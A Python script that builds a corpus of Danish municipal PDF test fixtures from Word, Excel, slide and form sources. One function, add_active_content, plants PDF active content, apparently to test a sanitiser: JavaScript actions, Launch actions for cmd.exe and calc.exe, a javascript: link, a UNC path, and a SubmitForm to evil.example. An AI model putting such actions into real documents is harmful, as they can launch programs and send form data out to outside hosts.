"""Make the corpus of real-producer bilag in tests/fixtures/bilag/ (see the README there).

Usage: python scripts/make_fixture_bilag.py [OUTDIR]     (default: tests/fixtures/bilag)

Needs LibreOffice (soffice), qpdf, ghostscript (gs) and poppler (pdftoppm) on PATH; the tests that use the
files need none of them. The sources (Word, Excel, slides, Writer form) are written here with python-docx,
openpyxl or as flat ODF XML, exported to PDF by LibreOffice, then transformed by qpdf, gs, pypdf or pyHanko as a
municipal system would. The output is not byte-reproducible (LibreOffice stamps dates and IDs); the committed
files are the corpus, this script is how they were made.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from docx import Document
from docx.enum.section import WD_ORIENT, WD_SECTION
from docx.shared import Cm, Mm
from openpyxl import Workbook
from openpyxl.worksheet.page import PageMargins
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

ROOT = Path(__file__).resolve().parent.parent
PARAGRAPH = ("Det fælleskommunale sekretariat har i samarbejde med driftsherrerne gennemgået kapaciteten på de "
             "specialiserede tilbud i regionen. Gennemgangen viser, at belægningen samlet set er stabil, men at "
             "enkelte tilbud har haft perioder med ledige pladser, som har påvirket taksterne. ")


def soffice(src: Path, out: Path, work: Path, filt: str = "pdf") -> Path:
    """Export `src` to PDF with LibreOffice headless, own user profile."""
    profile = (work / "lo-profil").as_uri()
    subprocess.run(["soffice", f"-env:UserInstallation={profile}", "--headless", "--norestore",
                    "--convert-to", filt, "--outdir", str(work), str(src)], check=True, capture_output=True,
                   timeout=180)
    made = work / (src.stem + ".pdf")
    shutil.move(made, out)
    return out


def qpdf(*args: str) -> None:
    subprocess.run(["qpdf", *args], check=True)


# --- sources -------------------------------------------------------------------------------------------------

def notat_docx(path: Path) -> None:
    """A multi-page Word notat: header and footer, headings, two tables, Danish text."""
    doc = Document()
    section = doc.sections[0]
    section.page_width, section.page_height = Mm(210), Mm(297)
    section.header.paragraphs[0].text = "Nordjysk Socialaftale – Notat – Sagsnr. 27.12.00-A00-3-25"
    section.footer.paragraphs[0].text = "Sekretariatet for Nordjysk Socialaftale · Boulevarden 13 · 9000 Aalborg"
    doc.add_heading("Notat om kapacitetsstyring på herbergsområdet", level=1)
    doc.add_paragraph("NOTAT-START: dette er bilagets egen første side.")
    for n in range(1, 5):
        doc.add_heading(f"{n}. Afsnit om kapacitet", level=2)
        for _ in range(3):
            doc.add_paragraph(PARAGRAPH * 3)
        table = doc.add_table(rows=6, cols=4)
        table.style = "Table Grid"
        for c, head in enumerate(("Tilbud", "Pladser", "Belægning", "Takst (kr.)")):
            table.cell(0, c).text = head
        for r in range(1, 6):
            for c, value in enumerate((f"Tilbud {n}.{r}", str(10 + r), f"{90 + r},5 %", f"{3000 + 17 * r}")):
                table.cell(r, c).text = value
    doc.add_paragraph("NOTAT-SLUT: sidste linje i notatet.")
    doc.save(path)


def mixed_docx(path: Path) -> None:
    """One Word file, three sections: A4 portrait, A3 landscape, US letter."""
    doc = Document()
    first = doc.sections[0]
    first.page_width, first.page_height = Mm(210), Mm(297)
    doc.add_heading("Side i A4 stående", level=1)
    doc.add_paragraph(PARAGRAPH)
    a3 = doc.add_section(WD_SECTION.NEW_PAGE)
    a3.orientation = WD_ORIENT.LANDSCAPE
    a3.page_width, a3.page_height = Mm(420), Mm(297)
    doc.add_heading("Side i A3 liggende", level=1)
    doc.add_paragraph(PARAGRAPH * 2)
    letter = doc.add_section(WD_SECTION.NEW_PAGE)
    letter.orientation = WD_ORIENT.PORTRAIT
    letter.page_width, letter.page_height = Cm(21.59), Cm(27.94)
    doc.add_heading("Side i US Letter", level=1)
    doc.add_paragraph(PARAGRAPH)
    doc.save(path)


def wide_xlsx(path: Path) -> None:
    """A wide sheet (22 columns) as a driftsherre fills it in; LibreOffice splits it over pages."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Takster 2026"
    ws.append(["Tilbud", "Paragraf", *[f"Måned {m}" for m in range(1, 13)], "Pladser", "Belægning",
               "Takst 2025", "Takst 2026", "Ændring", "Overhead", "Driftsherre", "Bemærkning"])
    for r in range(1, 41):
        ws.append([f"Tilbud nr. {r}", "§ 107", *[1000 + 7 * r + m for m in range(12)], 10 + r % 7,
                   0.9 + (r % 10) / 100, 3000 + 11 * r, 3100 + 11 * r, 100, 0.047, "Aalborg Kommune",
                   "Ingen bemærkninger"])
    ws.page_margins = PageMargins(left=0.5, right=0.5, top=0.7, bottom=0.7)
    wb.save(path)


FODP = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
 xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"
 xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"
 xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0"
 office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.presentation">
 <office:automatic-styles>
  <style:page-layout style:name="PM1">
   <style:page-layout-properties fo:margin-top="0cm" fo:margin-bottom="0cm" fo:margin-left="0cm"
    fo:margin-right="0cm" fo:page-width="28cm" fo:page-height="15.75cm" style:print-orientation="landscape"/>
  </style:page-layout>
  <style:style style:name="dp1" style:family="drawing-page"/>
  <style:style style:name="gr1" style:family="graphic">
   <style:graphic-properties draw:fill="solid" draw:fill-color="#1f4e79" draw:stroke="none"/>
  </style:style>
  <style:style style:name="P1" style:family="paragraph">
   <style:text-properties fo:font-size="32pt" fo:font-weight="bold" fo:color="#ffffff"/>
  </style:style>
  <style:style style:name="P2" style:family="paragraph">
   <style:text-properties fo:font-size="20pt"/>
  </style:style>
 </office:automatic-styles>
 <office:master-styles>
  <style:master-page style:name="Standard" style:page-layout-name="PM1" draw:style-name="dp1"/>
 </office:master-styles>
 <office:body><office:presentation>
SLIDES
 </office:presentation></office:body>
</office:document>
"""

SLIDE = """  <draw:page draw:name="dias{n}" draw:master-page-name="Standard" draw:style-name="dp1">
   <draw:frame draw:style-name="gr1" svg:x="0cm" svg:y="0cm" svg:width="28cm" svg:height="3.2cm">
    <draw:text-box><text:p text:style-name="P1">Temadag om velfærdsteknologi – dias {n}</text:p></draw:text-box>
   </draw:frame>
   <draw:frame svg:x="1.5cm" svg:y="4.5cm" svg:width="25cm" svg:height="9cm">
    <draw:text-box>
     <text:p text:style-name="P2">DIAS-{n}: Erfaringer fra kommunerne</text:p>
     <text:p text:style-name="P2">• Skærmbesøg og digital medicinhåndtering</text:p>
     <text:p text:style-name="P2">• Sensorer på botilbud – samtykke og etik</text:p>
    </draw:text-box>
   </draw:frame>
  </draw:page>
"""


def slides_fodp(path: Path) -> None:
    path.write_text(FODP.replace("SLIDES", "".join(SLIDE.format(n=n) for n in range(1, 4))), encoding="utf-8")


FODT_FORM = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
 xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"
 xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
 xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
 xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0"
 xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"
 xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"
 xmlns:xlink="http://www.w3.org/1999/xlink"
 office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">
 <office:automatic-styles>
  <style:style style:name="Skift" style:family="paragraph"><style:paragraph-properties fo:break-before="page"/></style:style>
 </office:automatic-styles>
 <office:body><office:text>
  <text:h text:outline-level="1">Tilmelding til temadag om velfærdsteknologi</text:h>
  <text:p>FORMULAR-SIDE-1: udfyld felterne og send formularen til sekretariatet.</text:p>
  <text:p>Navn:</text:p>
  <text:p>Kommune:</text:p>
  <text:p>Deltager i temadagen:</text:p>
  <text:p>Læs mere på <text:a xlink:type="simple" xlink:href="https://www.rn.dk/">www.rn.dk</text:a>
   eller skriv til <text:a xlink:type="simple" xlink:href="mailto:sekretariat@example.dk">sekretariatet</text:a>.</text:p>
  <text:h text:style-name="Skift" text:outline-level="1">Program</text:h>
  <text:p>FORMULAR-SIDE-2: programmet for dagen følger.</text:p>
 </office:text></office:body>
</office:document>
"""


# --- active content added the way other tools do it ----------------------------------------------------------

def _action(kind: str, **entries: object) -> DictionaryObject:
    action = DictionaryObject({NameObject("/Type"): NameObject("/Action"), NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject("/" + key)] = value  # type: ignore[assignment]
    return action


def _annot(writer: PdfWriter, page: object, annot: DictionaryObject) -> None:
    page_obj = page  # a PageObject of the writer
    annots = page_obj.get("/Annots")  # type: ignore[attr-defined]
    if annots is None:
        annots = ArrayObject()
        page_obj[NameObject("/Annots")] = annots  # type: ignore[index]
    annots.get_object().append(writer._add_object(annot))


def _link(rect: tuple[float, float, float, float], action: DictionaryObject) -> DictionaryObject:
    return DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in rect]),
        NameObject("/Border"): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(0)]),
        NameObject("/A"): action,
    })


def _stream(data: bytes, **entries: object) -> DecodedStreamObject:
    stream = DecodedStreamObject()
    stream.set_data(data)
    for key, value in entries.items():
        stream[NameObject("/" + key)] = value  # type: ignore[assignment]
    return stream


def add_form_fields(writer: PdfWriter) -> None:
    """Two text fields (appearances generated by pypdf from their values) and a ticked check box."""
    page = writer.pages[0]
    top = float(page.mediabox.height)
    helv = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
        NameObject("/BaseFont"): NameObject("/Helvetica"), NameObject("/Encoding"): NameObject("/WinAnsiEncoding")}))
    dr = DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/Helv"): helv})})
    fields = ArrayObject()
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(DictionaryObject({
        NameObject("/Fields"): fields, NameObject("/DR"): dr,
        NameObject("/DA"): TextStringObject("/Helv 9 Tf 0 g")}))
    for n, (name, y) in enumerate((("Navn", 110), ("Kommune", 124))):
        widget = writer._add_object(DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
            NameObject("/FT"): NameObject("/Tx"), NameObject("/T"): TextStringObject(name),
            NameObject("/F"): NumberObject(4), NameObject("/P"): page.indirect_reference,
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (180, top - y - 13, 440 - n * 40, top - y)]),
            NameObject("/DA"): TextStringObject("/Helv 9 Tf 0 g"),
            NameObject("/MK"): DictionaryObject({NameObject("/BC"): ArrayObject([FloatObject(0)])})}))
        fields.append(widget)
        _annot(writer, page, widget.get_object())
    on = _stream(b"q 0 g BT /ZaDb 10 Tf 2 2 Td (4) Tj ET Q 0 G 0.5 w 0.5 0.5 11 11 re S", Type=NameObject("/XObject"), Subtype=NameObject("/Form"),
                 BBox=ArrayObject([FloatObject(v) for v in (0, 0, 12, 12)]),
                 Resources=DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/ZaDb"): DictionaryObject({
                     NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                     NameObject("/BaseFont"): NameObject("/ZapfDingbats")})})}))
    off = _stream(b"q 0 G 0.5 w 0.5 0.5 11 11 re S Q", Type=NameObject("/XObject"), Subtype=NameObject("/Form"),
                  BBox=ArrayObject([FloatObject(v) for v in (0, 0, 12, 12)]))
    box = writer._add_object(DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Widget"),
        NameObject("/FT"): NameObject("/Btn"), NameObject("/T"): TextStringObject("Deltager"),
        NameObject("/V"): NameObject("/Ja"), NameObject("/AS"): NameObject("/Ja"), NameObject("/F"): NumberObject(4),
        NameObject("/P"): page.indirect_reference,
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (180, top - 152, 192, top - 140)]),
        NameObject("/AP"): DictionaryObject({NameObject("/N"): DictionaryObject({
            NameObject("/Ja"): writer._add_object(on), NameObject("/Off"): writer._add_object(off)})})}))
    fields.append(box)
    _annot(writer, page, box.get_object())
    writer.update_page_form_field_values(page, {"Navn": "FELTVAERDI Karen Jensen", "Kommune": "Hjoerring Kommune"},
                                         auto_regenerate=False)


def add_active_content(src: Path, out: Path) -> None:
    """On a LibreOffice PDF: form fields, document JavaScript, a JavaScript OpenAction, page /AA, JavaScript, Launch,
    javascript: and UNC links beside good ones, a file-attachment annotation, an embedded file and XFA."""
    writer = PdfWriter(clone_from=PdfReader(src))
    add_form_fields(writer)
    writer._root_object[NameObject("/OpenAction")] = _action("/JavaScript", JS=TextStringObject("app.alert('aabn');"))
    writer._root_object[NameObject("/AA")] = DictionaryObject({
        NameObject("/WC"): _action("/JavaScript", JS=TextStringObject("app.alert('luk');"))})
    writer.add_attachment("skjult.txt", b"indlejret fil, maa ikke komme med i pakken")
    names = writer._root_object["/Names"].get_object()
    names[NameObject("/JavaScript")] = writer._add_object(DictionaryObject({NameObject("/Names"): ArrayObject([
        TextStringObject("velkommen"),
        writer._add_object(_action("/JavaScript", JS=TextStringObject("app.alert('dokument-javascript');")))])}))
    page = writer.pages[0]
    page[NameObject("/AA")] = DictionaryObject({
        NameObject("/O"): _action("/JavaScript", JS=TextStringObject("app.alert('side aabnet');")),
        NameObject("/C"): _action("/Launch", F=TextStringObject("cmd.exe"))})
    _annot(writer, page, _link((60, 60, 200, 80), _action("/JavaScript", JS=TextStringObject("app.alert('klik');"))))
    _annot(writer, page, _link((60, 90, 200, 110), _action("/Launch", F=TextStringObject("C:\\Windows\\calc.exe"))))
    _annot(writer, page, _link((60, 120, 200, 140), _action("/URI", URI=TextStringObject("javascript:alert(1)"))))
    _annot(writer, page, _link((60, 150, 200, 170), _action("/URI", URI=TextStringObject("\\\\server\\share\\x"))))
    _annot(writer, page, _link((60, 180, 200, 200), _action("/SubmitForm", F=TextStringObject("https://evil.example/"))))
    _annot(writer, page, _link((60, 210, 200, 230), _action("/GoToR", F=TextStringObject("andet.pdf"),
                                                            D=ArrayObject([NumberObject(0), NameObject("/Fit")]))))
    _annot(writer, page, _link((220, 60, 400, 80), _action("/URI", URI=TextStringObject("https://www.example.dk/"))))
    embedded = DecodedStreamObject()
    embedded.set_data(b"vedhaeftet fil i en annotation")
    embedded[NameObject("/Type")] = NameObject("/EmbeddedFile")
    spec = DictionaryObject({
        NameObject("/Type"): NameObject("/Filespec"), NameObject("/F"): TextStringObject("vedhaeftet.txt"),
        NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(embedded)})})
    _annot(writer, page, DictionaryObject({
        NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/FileAttachment"),
        NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (420, 60, 440, 80)]),
        NameObject("/FS"): writer._add_object(spec), NameObject("/Name"): NameObject("/PushPin")}))
    xfa = DecodedStreamObject()
    xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template/></xdp:xdp>')
    acroform = writer._root_object["/AcroForm"].get_object()
    acroform[NameObject("/XFA")] = writer._add_object(xfa)
    for annot in page.get("/Annots", []):  # a field-level keystroke script, as form tools write them
        annot = annot.get_object()
        if annot.get("/Subtype") == "/Widget":
            annot[NameObject("/AA")] = DictionaryObject({
                NameObject("/K"): _action("/JavaScript", JS=TextStringObject("AFNumber_Keystroke(0);"))})
            break
    with out.open("wb") as fh:
        writer.write(fh)


def sign(src: Path, out: Path, work: Path) -> None:
    """A visible PAdES signature with a throwaway self-signed certificate (tests/pki.py)."""
    sys.path.insert(0, str(ROOT / "tests"))
    from pki import PASSWORD, make_pki
    from referat.signing.certificate import load_signer
    from referat.signing.sign import sign_pdf

    pki = make_pki(work / "pki")
    signer = load_signer(pki.selvsigneret, PASSWORD.encode())
    out.write_bytes(sign_pdf(src.read_bytes(), signer, "Søren Selvsigneret", "Driftsherre", visible=True))


def scanned(src: Path, out: Path, work: Path) -> None:
    """An image-only PDF as a scanner makes it: pages rastered to grey JPEG, wrapped by ghostscript."""
    subprocess.run(["pdftoppm", "-f", "1", "-l", "2", "-r", "50", "-gray", "-jpeg", "-jpegopt", "quality=30",
                    str(src), str(work / "scan")], check=True)
    viewjpeg = next(Path("/usr/share/ghostscript").glob("*/lib/viewjpeg.ps"))
    images = " ".join(f"({p}) viewJPEG showpage" for p in sorted(work.glob("scan-*.jpg")))
    subprocess.run(["gs", "-q", "-dNOPAUSE", "-dBATCH", "-dSAFER", f"--permit-file-read={work}/",
                    "-sDEVICE=pdfwrite", "-sPAPERSIZE=a4", "-dFIXEDMEDIA", "-dPDFFitPage",
                    f"-sOutputFile={out}", str(viewjpeg), "-c", images], check=True)


def main(outdir: Path) -> None:
    outdir.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="referat-fixtures-") as tmp:
        work = Path(tmp)
        notat = work / "notat.docx"
        notat_docx(notat)
        soffice(notat, outdir / "notat-libreoffice.pdf", work)
        mixed = work / "blandede.docx"
        mixed_docx(mixed)
        soffice(mixed, outdir / "blandede-sidestoerrelser.pdf", work)
        sheet = work / "regneark.xlsx"
        wide_xlsx(sheet)
        soffice(sheet, outdir / "regneark-libreoffice.pdf", work)
        slides = work / "plancher.fodp"
        slides_fodp(slides)
        soffice(slides, outdir / "plancher-16x9.pdf", work)
        form = work / "formular.fodt"
        form.write_text(FODT_FORM, encoding="utf-8")
        form_pdf = soffice(form, work / "formular-lo.pdf", work)
        add_active_content(form_pdf, outdir / "aktivt-indhold.pdf")
        qpdf("--rotate=+90:2", "--rotate=+180:3", str(outdir / "notat-libreoffice.pdf"), str(outdir / "roteret.pdf"))
        qpdf("--encrypt", "", "ejer-hemmelig", "256", "--", str(outdir / "notat-libreoffice.pdf"),
             str(outdir / "krypteret-tom-adgangskode.pdf"))
        qpdf("--encrypt", "bruger-hemmelig", "ejer-hemmelig", "256", "--", str(outdir / "notat-libreoffice.pdf"),
             str(outdir / "kraever-adgangskode.pdf"))
        qpdf("--linearize", "--object-streams=generate", str(outdir / "notat-libreoffice.pdf"),
             str(outdir / "lineariseret-objektstroemme.pdf"))
        scanned(outdir / "notat-libreoffice.pdf", outdir / "skannet.pdf", work)
        sign(form_pdf, outdir / "underskrevet.pdf", work)
    for path in sorted(outdir.glob("*.pdf")):
        print(f"{path.name}: {path.stat().st_size // 1024} KB, {len(PdfReader(path).pages) if 'kraever' not in path.name else '?'} sider")


if __name__ == "__main__":
    main(Path(sys.argv[1]) if len(sys.argv) > 1 else ROOT / "tests" / "fixtures" / "bilag")
